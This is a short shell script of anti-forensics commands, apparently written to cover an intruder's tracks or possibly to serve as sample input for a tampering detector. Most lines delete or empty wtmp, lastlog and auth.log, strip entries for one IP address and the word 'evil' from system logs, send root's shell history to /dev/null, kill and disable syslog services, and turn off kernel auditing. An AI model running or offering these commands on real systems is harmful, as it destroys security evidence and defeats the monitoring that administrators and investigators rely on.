#!/bin/sh
rm -f /var/log/wtmp /tmp/x
: > /var/log/lastlog
cat /dev/null > /var/log/auth.log
sed -i '/10.0.0.9/d' /var/log/messages
grep -v evil /var/log/syslog > /tmp/s
ln -sf /dev/null /root/.ash_history
killall -9 syslogd klogd
/etc/init.d/log stop
systemctl disable rsyslog.service
syslogd -O /dev/null
export HISTFILE=/dev/null HISTSIZE=0
unset HISTFILE; history -c; set +o history
auditctl -e 0
echo started > /var/log/messages
echo x >> /var/log/messages
cp /var/log/messages /mnt/old
echo "rm /var/log/wtmp"
